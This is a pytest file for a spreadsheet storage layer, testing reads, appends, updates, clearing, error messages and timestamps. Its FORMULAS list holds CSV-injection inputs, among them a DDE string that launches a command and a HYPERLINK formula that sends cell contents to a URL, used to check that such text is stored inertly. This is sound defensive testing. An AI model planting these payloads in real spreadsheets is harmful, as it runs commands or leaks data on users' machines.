"""One behaviour of all stores of spreadsheets, whatever stands behind them."""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path
from typing import Any

import pytest

from coreops_hookspecs import SheetsBackend
from coreops_hookspecs.errors import SheetsError, SheetsNotFoundError

CLANS = [
    ["clan_tag", "level", "leader_id"],
    ["EMB", "24", "825012345678901234"],
    ["NIT", "22", "0082501234567890123"],
]
TEXTS = [
    "0042",
    "0082501234567890123",
    "825012345678901234",
    "1,234",
    "1/2",
    "TRUE",
    "=1+1",
    "'quoted",
    "#REF!",
    " blanks ",
    "two\nlines",
    'say "x", y',
    "Größe 日本 🎉",
    "+5",
    "1e3",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?" & A1, "prize")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
]
"""Texts of members that a spreadsheet program would work out (OWASP: CSV Injection)."""


def test_it_is_a_backend_with_a_name(store: Any) -> None:
    assert isinstance(store.backend, SheetsBackend)
    assert store.backend.name in {"google", "workbook"}


async def test_tabs_are_read_as_text_in_the_order_asked(store: Any) -> None:
    assert await store.read_many(["clans", "empty", "Config", "clans"]) == [
        CLANS,
        [],
        [["KEY", "VALUE"], ["clans_tab", "clans"]],
        CLANS,
    ]


async def test_a_tab_of_any_title_is_read(store: Any) -> None:
    assert await store.read("it's a tab", "onboarding") == [["step"], ["hello"]]


async def test_blanks_at_the_ends_are_not_part_of_a_tab(store: Any) -> None:
    await store.put("recruitment", "clans", [["a", "", "c", ""], ["", ""], ["", "x"], [""], ["", "", ""]])
    assert await store.read("clans") == [["a", "", "c"], [], ["", "x"]]


async def test_the_tabs_are_listed_by_title(store: Any) -> None:
    assert [tab.title for tab in await store.call("tabs", "recruitment")] == ["Config", "clans", "empty"]
    assert [tab.title for tab in await store.call("tabs", "onboarding")] == ["it's a tab"]
    (clans,) = [tab for tab in await store.call("tabs", "recruitment") if tab.title == "clans"]
    assert clans.rows >= 3
    assert clans.columns >= 3


@pytest.mark.parametrize("operation", ["append", "update"])
async def test_every_text_is_written_and_read_back_exactly(store: Any, operation: str) -> None:
    where = ("clans",) if operation == "append" else ("clans", "A4")
    await store.call(operation, "recruitment", *where, [TEXTS, TEXTS[::-1]])
    assert await store.read("clans") == [*CLANS, TEXTS, TEXTS[::-1]]


async def test_no_text_becomes_a_formula(store: Any) -> None:
    await store.call("append", "recruitment", "clans", [FORMULAS])
    await store.call("update", "recruitment", "clans", "A5", [FORMULAS])
    assert await store.read("clans") == [*CLANS, FORMULAS, FORMULAS], "a formula would show what it comes to"


async def test_no_cell_of_a_file_begins_as_a_formula_does(workbook: Any, tmp_path: Path) -> None:
    await workbook.call("append", "recruitment", "clans", [FORMULAS])
    await workbook.call("update", "recruitment", "clans", "B2", [["-5", "+1,234.5"]])
    with (tmp_path / "recruitment" / "clans.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert [cell[0] for cell in rows[-1]] == ["'"] * len(FORMULAS)
    assert rows[1][1:] == ["-5", "+1,234.5"], "numbers stay numbers"


async def test_rows_are_appended_after_the_last_one(store: Any) -> None:
    await store.call("append", "recruitment", "clans", [["NEW", "1", "2"]])
    await store.call("append", "recruitment", "clans", [["A"], ["B", "2"]])
    assert await store.read("clans") == [*CLANS, ["NEW", "1", "2"], ["A"], ["B", "2"]]


async def test_the_first_rows_of_an_empty_tab_begin_in_its_first_cell(store: Any) -> None:
    await store.call("append", "recruitment", "empty", [["a", "", "c"]])
    await store.call("append", "recruitment", "empty", [["1", "", "3"]])
    assert await store.read("empty") == [["a", "", "c"], ["1", "", "3"]]


@pytest.mark.parametrize(
    "before",
    [
        [["a", "", "c"]],
        [["a", "b", "c"], ["1", "", "3"], ["", "", "3"]],
        [["a", "b", "", "d"], ["1", "2"]],
        [["a", "b"], [], ["after", "a gap"]],
        [["a", "b"], ["1", "2"], [], [], ["", "", "", "far"]],
        [[], ["", "b"]],
    ],
)
async def test_a_table_with_gaps_grows_at_its_end_from_the_first_column(store: Any, before: list[list[str]]) -> None:
    await store.put("recruitment", "clans", before)
    await store.call("append", "recruitment", "clans", [["x", "", "z"], ["", "y"]])
    assert await store.read("clans") == [*before, ["x", "", "z"], ["", "y"]]


async def test_blank_rows_are_appended_too_if_something_follows_them(store: Any) -> None:
    await store.call("append", "recruitment", "clans", [[], ["x"]])
    assert await store.read("clans") == [*CLANS, [], ["x"]]
    await store.call("append", "recruitment", "clans", [])
    assert await store.read("clans") == [*CLANS, [], ["x"]]


async def test_a_tab_grows_in_both_directions(store: Any) -> None:
    wide = [str(number) for number in range(40)]
    await store.call("append", "recruitment", "clans", [wide])
    await store.call("update", "recruitment", "clans", "AX1500", [["far"]])
    await store.call("append", "recruitment", "clans", [["last"]] * 3)
    rows = await store.read("clans")
    assert rows[3] == wide
    assert rows[1499] == [*[""] * 49, "far"]
    assert rows[1500:] == [["last"]] * 3


async def test_an_update_overwrites_from_its_cell(store: Any) -> None:
    await store.call("update", "recruitment", "clans", "B2", [["25"], ["23", "note", "more"]])
    assert await store.read("clans") == [
        CLANS[0],
        ["EMB", "25", "825012345678901234"],
        ["NIT", "23", "note", "more"],
    ]


async def test_an_empty_text_empties_a_cell(store: Any) -> None:
    await store.call("update", "recruitment", "clans", "B2", [["", ""], ["", "x"]])
    assert await store.read("clans") == [CLANS[0], ["EMB"], ["NIT", "", "x"]]
    await store.call("update", "recruitment", "clans", "A2", [["", "", ""], ["", "", ""]])
    assert await store.read("clans") == [CLANS[0]]


async def test_blocks_are_written_together(store: Any) -> None:
    blocks = [("B2", [["25"]]), ("A5", [["late"]]), ("C3", [["x", "y"]])]
    await store.call("update_many", "recruitment", "clans", blocks)
    assert await store.read("clans") == [
        CLANS[0],
        ["EMB", "25", "825012345678901234"],
        ["NIT", "22", "x", "y"],
        [],
        ["late"],
    ]
    with pytest.raises(SheetsError):
        await store.call("update_many", "recruitment", "clans", [("B2", [["26"]]), ("?", [["x"]])])
    assert (await store.read("clans"))[1][1] == "25"


async def test_headers_are_the_first_rows(store: Any) -> None:
    assert await store.call("headers", "recruitment", ["clans", "empty", "Config"]) == [
        tuple(CLANS[0]),
        (),
        ("KEY", "VALUE"),
    ]


@pytest.mark.parametrize(
    ("area", "left"),
    [
        ("", []),
        ("A2:C", [CLANS[0]]),
        ("2:2", [CLANS[0], [], CLANS[2]]),
        ("B2", [CLANS[0], ["EMB", "", CLANS[1][2]], CLANS[2]]),
        ("B:C", [["clan_tag"], ["EMB"], ["NIT"]]),
        ("B2:B3", [CLANS[0], ["EMB", "", CLANS[1][2]], ["NIT", "", CLANS[2][2]]]),
    ],
)
async def test_an_area_is_cleared(store: Any, area: str, left: list[list[str]]) -> None:
    await store.call("clear", "recruitment", "clans", area)
    assert await store.read("clans") == left


@pytest.mark.parametrize("cell", ["B", "5", "A1:", "", "ZZZZ1"])
async def test_an_impossible_cell_is_refused_and_changes_nothing(store: Any, cell: str) -> None:
    with pytest.raises(SheetsError) as caught:
        await store.call("update", "recruitment", "clans", cell, [["x"]])
    assert not caught.value.retryable
    assert await store.read("clans") == CLANS


@pytest.mark.parametrize("operation", ["read_many", "headers", "append", "update", "clear"])
async def test_a_missing_tab_is_named_with_a_suggestion(store: Any, operation: str) -> None:
    arguments: dict[str, tuple[Any, ...]] = {
        "read_many": (["Config", "clan"],),
        "headers": (["Config", "clan"],),
        "append": ("clan", [["x"]]),
        "update": ("clan", "A1", [["x"]]),
        "clear": ("clan",),
    }
    with pytest.raises(SheetsNotFoundError) as caught:
        await store.call(operation, "recruitment", *arguments[operation])
    assert 'no tab "clan"' in str(caught.value)
    assert 'did you mean "clans"' in str(caught.value)
    assert str(caught.value).endswith("there are: Config, clans, empty")
    assert not caught.value.retryable


@pytest.mark.parametrize("operation", ["read_many", "tabs", "modified_at", "append", "update"])
async def test_a_missing_spreadsheet_is_not_found(store: Any, operation: str) -> None:
    arguments: dict[str, tuple[Any, ...]] = {
        "read_many": (["clans"],),
        "append": ("clans", [["x"]]),
        "update": ("clans", "A1", [["x"]]),
    }
    with pytest.raises(SheetsNotFoundError, match='spreadsheet "recrutment"'):
        await store.call(operation, "recrutment", *arguments.get(operation, ()))


async def test_an_edit_from_outside_is_seen(store: Any) -> None:
    assert await store.read("clans") == CLANS
    await store.put("recruitment", "clans", [["clan_tag"], ["007"]])
    assert await store.read("clans") == [["clan_tag"], ["007"]]
    await store.put("recruitment", "clans", [])
    assert await store.read("clans") == []
    await store.put("recruitment", "new", [["a"]])
    assert await store.read("new") == [["a"]]


async def test_a_tab_that_is_renamed_or_deleted_is_missed(store: Any) -> None:
    await store.rename("recruitment", "clans", "Clans 2")
    with pytest.raises(SheetsNotFoundError, match='no tab "clans"'):
        await store.read("clans")
    assert await store.read("Clans 2") == CLANS
    await store.delete("recruitment", "Clans 2")
    with pytest.raises(SheetsNotFoundError):
        await store.read("Clans 2")


async def test_the_modification_time_moves_with_every_change_and_not_with_reads(store: Any) -> None:
    async def modified() -> Any:
        return await store.call("modified_at", "recruitment")

    first = await modified()
    assert first.utcoffset() is not None
    await store.read("clans")
    await store.call("tabs", "recruitment")
    assert await modified() == first
    seen = [first]
    for change in (
        store.call("append", "recruitment", "clans", [["x"]]),
        store.call("update", "recruitment", "clans", "A1", [["y"]]),
        store.put("recruitment", "clans", [["z"]]),
        store.rename("recruitment", "clans", "other"),
    ):
        await asyncio.sleep(0.02)  # a file system's clock ticks a hundred times a second
        await change
        seen.append(await modified())
    assert sorted(set(seen)) == seen


async def test_rows_appended_at_the_same_time_are_all_kept(store: Any) -> None:
    rows = [[f"{writer}-{number}"] for writer in range(4) for number in range(10)]
    await asyncio.gather(*(store.call("append", "recruitment", "clans", [row]) for row in rows))
    after = await store.read("clans")
    assert after[:3] == CLANS
    assert sorted(after[3:]) == sorted(rows)


async def test_a_closed_store_opens_again(store: Any) -> None:
    await store.call("close")
    assert await store.read("clans") == CLANS
